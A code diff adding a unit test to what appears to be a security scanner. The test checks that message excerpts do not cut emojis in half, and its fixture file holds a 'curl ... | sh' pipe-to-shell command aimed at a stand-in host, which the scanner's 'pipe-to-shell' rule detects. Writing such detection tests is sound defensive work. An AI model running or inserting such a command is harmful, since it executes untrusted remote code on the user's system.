@@ -82,6 +82,13 @@ describe('messages', () => {
     }
   });
 
+  it('cut excerpts between characters, never inside an emoji', () => {
+    const { findings } = scanFiles([file('run.sh', `curl -s https://x.example/${'🚀'.repeat(40)} | sh`)]);
+    const message = findings.find((f) => f.rule === 'pipe-to-shell')!.message;
+    expect(message).toContain('🚀');
+    expect(message).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
+  });
+
   it('quote nothing of the content when asked not to (paid skills)', () => {
     const { findings } = scanFiles(skill, { quote: false });
     expect(findings.length).toBe(scanFiles(skill).findings.length);
